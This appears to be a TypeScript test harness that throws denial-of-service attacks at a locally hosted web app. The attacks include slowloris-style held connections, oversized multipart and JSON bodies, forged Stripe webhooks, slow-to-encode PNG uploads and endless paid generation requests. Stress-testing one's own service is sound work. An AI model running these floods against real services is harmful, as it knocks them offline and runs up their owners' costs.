import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import sharp from 'sharp'
import { saving, signingIn } from './habits.ts'
import type { Habit } from './honest.ts'
import type { Target } from './target.ts'

type Victim = Pick<Target, 'url' | 'port' | 'tokens'>

export interface Attack {
  item: number
  name: string
  /** What it stopped people from doing, besides reading. */
  besides?: Habit
  /** Goes on until its process is ended; says when it has begun. */
  run(target: Victim, begun: () => void): Promise<void>
}

const api = '/backend/api'
const kib = 1024

function open({ port }: Victim, localAddress = '127.0.0.2'): Socket {
  return connect({ port, host: '127.0.0.1', localAddress })
    .on('error', () => {})
    .resume()
}

/** Again and again, so many at a time. */
async function repeat(begun: () => void, atOnce: number, work: () => Promise<unknown>): Promise<void> {
  const lane = async () => {
    for (;;) {
      await work().catch(() => {})
      await new Promise((resolve) => setTimeout(resolve, 5))
    }
  }
  begun()
  await Promise.all(Array.from({ length: atOnce }, lane))
}

/** Held until the end of the attack, opened again when closed. */
async function hold(target: Victim, begun: () => void, count: number, begin: (socket: Socket) => void): Promise<void> {
  let sockets: Socket[] = []
  begun()
  for (;;) {
    sockets = sockets.filter((socket) => !socket.destroyed)
    for (let n = sockets.length; n < count; n += 1) {
      const socket = open(target, `127.0.1.${1 + (n % 20)}`)
      begin(socket)
      sockets.push(socket)
      if (n % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 20))
    }
    await new Promise((resolve) => setTimeout(resolve, 500))
  }
}

/** As Stripe would sign it, with the wrong secret: what has no signature at all is not even read. */
const signature = () => `t=${Math.floor(Date.now() / 1000)},v1=${'0'.repeat(64)}`

const post = (target: Victim, path: string, type: string, body: Uint8Array | string, token?: string) =>
  fetch(target.url + api + path, {
    method: 'POST',
    headers: {
      'content-type': type,
      'stripe-signature': signature(),
      ...(token && { authorization: `Bearer ${token}` }),
    },
    body: typeof body === 'string' ? body : Uint8Array.from(body),
  }).then((response) => response.arrayBuffer())

const form = 'multipart/form-data; boundary=x'
const part = '--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n'
const manyParts = Buffer.from(`${part.repeat(32_000)}--x--\r\n`)
const manyKeys = JSON.stringify(Object.fromEntries(Array.from({ length: 150_000 }, (_, n) => [`k${n}`, n])))

/** Noise of sixteen colors: 8 MB as it comes, and as slow to encode as a picture can be. */
async function noise(): Promise<Buffer> {
  const side = 4096
  const indexes = randomBytes(side * side)
  const pixels = Buffer.alloc(side * side * 3)
  for (let n = 0; n < indexes.length; n += 1) pixels.fill(((indexes[n] ?? 0) & 15) * 17, n * 3, n * 3 + 3)
  return sharp(pixels, { raw: { width: side, height: side, channels: 3 } })
    .png({ palette: true, colours: 16, dither: 0, compressionLevel: 1, effort: 1 })
    .toBuffer()
}

function upload(target: Victim, token: string, bytes: Buffer) {
  const body = new FormData()
  body.append('file', new Blob([Uint8Array.from(bytes)]), 'noise.png')
  const headers = { authorization: `Bearer ${token}` }
  return fetch(`${target.url}${api}/storage/upload`, { method: 'POST', headers, body }).then((r) => r.arrayBuffer())
}

const guess = () => `uploads/${randomBytes(24).toString('base64url')}.png`

export const attacks: Attack[] = [
  {
    item: 1,
    name: 'addresses of 15,900 slashes',
    run: (target, begun) =>
      repeat(begun, 8, async () => {
        await (await fetch(`${target.url}/${'/'.repeat(15_900)}x`)).arrayBuffer()
        await (await fetch(`${target.url}${api}/pages/paginate?search=${'%20'.repeat(5000)}`)).arrayBuffer()
      }),
  },
  {
    item: 2,
    name: 'forms of 32,000 parts, and 150,000 keys of JSON',
    run: (target, begun) =>
      repeat(begun, 6, async () => {
        await post(target, '/users/sign-in', form, manyParts).catch(() => {})
        await post(target, '/users/sign-in', 'application/json', manyKeys)
      }),
  },
  {
    item: 2,
    name: '1,100 bodies held one byte short',
    run: (target, begun) =>
      hold(target, begun, 1100, (socket) => {
        const head = [
          `POST ${api}/stripe/webhook HTTP/1.1`,
          'host: x',
          'content-type: application/json',
          `stripe-signature: ${signature()}`,
        ]
        socket.write(`${[...head, `content-length: ${250 * kib}`].join('\r\n')}\r\n\r\n`)
        socket.write('y'.repeat(250 * kib - 1))
      }),
  },
  {
    item: 3,
    name: '4,096 idle connections, half of them with half a request',
    run: (target, begun) => {
      let turn = 0
      return hold(target, begun, 4096, (socket) => {
        turn += 1
        socket.write(turn % 2 ? 'GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n' : 'GET / HTTP/1.1\r\nx-slow: ')
      })
    },
  },
  {
    item: 4,
    name: 'forged webhooks of 250 KiB',
    run: (target, begun) =>
      repeat(begun, 8, () =>
        post(target, '/stripe/webhook', 'application/json', JSON.stringify({ x: 'y'.repeat(250 * kib) })),
      ),
  },
  {
    item: 5,
    name: 'palette noise of 4096² from one free account',
    besides: saving,
    run: async (target, begun) => {
      const picture = await noise()
      await repeat(begun, 4, () => upload(target, target.tokens.free, picture))
    },
  },
  {
    item: 6,
    name: 'drawings asked for without end',
    besides: signingIn,
    run: (target, begun) =>
      repeat(begun, 3, () =>
        post(
          target,
          '/pages/create',
          'application/json',
          '{"prompt":"a cat and a dog in the garden"}',
          target.tokens.paid,
        ),
      ),
  },
  {
    item: 8,
    name: 'readiness, and files that are not there',
    run: (target, begun) =>
      repeat(begun, 8, async () => {
        for (const path of ['/readyz', `/files/${guess()}`, `/pictures/${guess()}/320.webp`])
          await (await fetch(target.url + path)).arrayBuffer()
      }),
  },
]
